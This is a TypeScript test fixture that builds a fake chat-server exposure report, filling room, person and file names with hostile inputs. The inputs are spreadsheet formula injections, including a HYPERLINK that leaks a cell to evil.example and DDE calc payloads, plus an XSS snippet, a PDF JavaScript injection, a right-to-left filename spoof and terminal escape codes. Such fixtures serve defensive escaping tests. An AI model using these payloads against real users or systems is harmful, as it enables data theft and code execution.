// A report as tests need one: small, with everything that can stand in it, and names that somebody hostile has chosen.
import type { ExposureReport } from '@chappe/ledger'

/** 2026-06-08, 09:00 UTC. */
export const BEGAN_MS = 1_780_909_200_000
const HOUR_MS = 3_600_000

/** Names as an intruder would choose them. */
export const HOSTILE_NAMES = [
  '=HYPERLINK("http://evil.example/?"&A1,"Open")',
  '+1+cmd|\' /C calc\'!A0',
  '-2+3',
  '@SUM(1+1)*cmd|\' /C calc\'!A0',
  '\t=1+1',
  '\r=1+1',
  '  =1+1',
  '\u00A0\u2003=1+1',
  'a;=1+1',
  'a",=1+1,"',
  '＝1+1',
  'invoice\u202Efdp.exe',
  '\u0000\u0007\u001B[31mred',
  '<script>alert(1)</script><img src=x onerror=alert(1)>',
  ') Tj ET /OpenAction << /S /JavaScript /JS (app.alert(1)) >> endobj %%EOF',
  '\uFEFF\u200B\u2066hidden',
  '\uD800 half a sign',
  'x'.repeat(100_000),
  'сводка Ελληνικά עברית العربية 国家机密 é à ç œ',
  'line one\r\nline two\u2028line three',
] as const

/** A report about @mallory, who was shown one room for each hostile name. */
export function hostileReport(names: readonly string[] = HOSTILE_NAMES): ExposureReport {
  return {
    format: 'chappe-exposure-report/1',
    serverName: 'chappe.test',
    subject: { kind: 'account', userId: '@mallory:chappe.test' },
    fromMs: BEGAN_MS,
    toMs: BEGAN_MS + 6 * HOUR_MS,
    caseId: '7',
    madeAtMs: BEGAN_MS + 24 * HOUR_MS,
    ledger: { size: 4711, checkpoint: 'chappe.test/ledger\n4711\nAAAA\n\n— chappe.test/ledger AAAA\n', isWhole: false, gaps: [{ fromMs: BEGAN_MS, toMs: BEGAN_MS + 1000, why: 'a block is missing' }] },
    totals: {
      rooms: names.length, events: 1200, eventsCiphertextOnly: 30, eventsKeysReachable: 20, eventsUnknown: 10, eventsReachable: 5000, roomsReachable: 7, roomsListed: 9,
      people: names.length, files: names.length, fileBytes: 1_234_567_890, bytes: 2_000_000_000, peopleReachable: 73_467, peopleUnnamed: 0, filesReachable: 3, sessions: 3, rows: 800,
    },
    reachablePeople: { scope: 'organisation', count: 60_000, inRooms: 20_000, all: 73_467, assumed: 12, byName: 825, listed: 876, listedAssumed: 3, pictures: 41_000, assumptions: ['account_states', 'organisations', 'listing', 'room_marks', 'purged', 'profiles'] },
    sessions: names.slice(0, 3).map((deviceName, index) => ({
      userId: '@mallory:chappe.test', deviceId: `DEVICE${index}`, account: 1, device: 10 + index, deviceName, addresses: ['203.0.113.7'], endedBy: 'contained' as const,
      firstAtMs: BEGAN_MS, lastAtMs: BEGAN_MS + HOUR_MS, events: 400, files: 3, bytes: 1000,
    })),
    rooms: names.map((name, index) => ({
      roomId: `!room${String(index).padStart(3, '0')}:chappe.test`, number: index + 1, name, organisation: 'finance', audience: 'everybody' as const, isEncrypted: false, isOpen: true, class: 'delivered' as const,
      events: { delivered: 60, ciphertextOnly: 0, keysReachable: 0, unknown: 0, reachable: 10, state: 5, total: 70 },
      share: 60 / 70, bytes: 5000, firstAtMs: BEGAN_MS, lastAtMs: BEGAN_MS + HOUR_MS, sessions: ['DEVICE0'], reachableBy: 'open' as const, reachableNow: true, isListed: true,
    })),
    people: names.map((displayName, index) => ({
      userId: `@agent${index}:chappe.test`, displayName, organisation: index % 3 === 0 ? 'finance' : '=cmd()', class: 'delivered' as const, events: 3, rooms: 1,
      asProfile: true, asMember: true, firstAtMs: BEGAN_MS, lastAtMs: BEGAN_MS + HOUR_MS,
    })),
    files: names.map((name, index) => ({
      mxc: `mxc://chappe.test/file${index}`, name, roomId: '!room000:chappe.test', bytes: 1000 + index, sha256: null, class: 'delivered' as const, isWhole: true,
      firstAtMs: BEGAN_MS, lastAtMs: BEGAN_MS, sessions: ['DEVICE0'],
    })),
    timeline: Array.from({ length: 360 }, (_, index) => ({ fromMs: BEGAN_MS + index * 60_000, toMs: BEGAN_MS + (index + 1) * 60_000, events: (index * 7) % 40, files: index % 3, people: 1, bytes: 10, sessions: 1 })),
    others: [{ userId: '@other:chappe.test', address: '203.0.113.7', firstAtMs: BEGAN_MS, lastAtMs: BEGAN_MS + 5 }],
  }
}
